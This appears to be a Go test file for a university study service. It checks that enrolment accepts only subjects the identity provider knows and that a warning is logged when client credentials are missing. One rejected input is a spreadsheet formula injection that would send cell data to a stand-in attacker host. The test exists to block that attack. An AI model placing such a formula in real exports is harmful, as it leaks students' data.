package main

import (
	"net/http"
	"path/filepath"
	"strings"
	"testing"

	"github.com/coreos/go-oidc/v3/oidc"
	"golang.org/x/oauth2"
)

// TestStudyEnrolsOnlyPeople: staff enrol people identity knows, checked
// by the study service with its own client credentials at identity; a
// formula or an unknown id is refused before anything is stored, so it
// can never reach a grade export.
func TestStudyEnrolsOnlyPeople(t *testing.T) {
	t.Parallel()
	p := startIDP(t)
	app := p.addClient(t, "--id", "grading", "--first-party", "--redirect-uri", "https://grading.uni.example/cb",
		"--scope", "openid", "--scope", "studies:write", "--scope", "grades:write", "--scope", "grades:read")
	stud := p.addUser(t, "stud", "student-password-1", "student")
	p.addUser(t, "prof", "staff-password-12", "staff")
	tok, _ := newRP(t, p, app, oidc.ScopeOpenID, "grades:write", "grades:read").signIn(t, p, p.browser(t), "prof", "staff-password-12")
	staff := studyAPI{t: t, p: p, token: tok.AccessToken}
	etok, _ := newRP(t, p, app, oidc.ScopeOpenID, "studies:write").signIn(t, p, p.browser(t), "admin", adminPassword,
		oauth2.SetAuthURLParam("prompt", "login"))
	editor := studyAPI{t: t, p: p, token: etok.AccessToken}
	prog := editor.must(http.StatusCreated, "POST", "/v1/programmes", map[string]any{"title": "B.Sc. Computer Science", "degree": "B.Sc.",
		"semesters": 6, "credits_required": 180, "status": "published"}).body["id"].(string)

	for _, bad := range []string{
		`=HYPERLINK("https://evil.example/?"&A1,"Click")`,
		"0190f3a4-8b1c-7d2e-9f00-00000000dead", // well-formed, nobody's
		strings.ToUpper(stud.ID),
	} {
		r := staff.must(http.StatusUnprocessableEntity, "POST", "/v1/enrolments", map[string]any{"subject": bad, "programme_id": prog})
		if !strings.Contains(r.raw, `"field":"subject"`) {
			t.Errorf("enrol %q: %s", bad, r.raw)
		}
	}
	staff.must(http.StatusCreated, "POST", "/v1/enrolments", map[string]any{"subject": stud.ID, "programme_id": prog})
	if l := staff.must(http.StatusOK, "GET", "/v1/enrolments?programme_id="+prog, nil); len(l.body["items"].([]any)) != 1 {
		t.Fatalf("enrolments: %s", l.raw)
	}
}

// TestStudyAloneWithoutCredentialsWarns: a study service started without
// client credentials at identity says at start what it cannot do.
func TestStudyAloneWithoutCredentialsWarns(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	r := startCampus(t, nil, "study", "--addr", "127.0.0.1:0", "--data", filepath.Join(dir, "study"), "--issuer", "https://127.0.0.1:1")
	r.stop()
	if log := r.stderr.String(); !strings.Contains(log, "level=WARN") || !strings.Contains(log, "cannot enrol people") {
		t.Errorf("no warning about the missing client credentials:\n%s", log)
	}
}
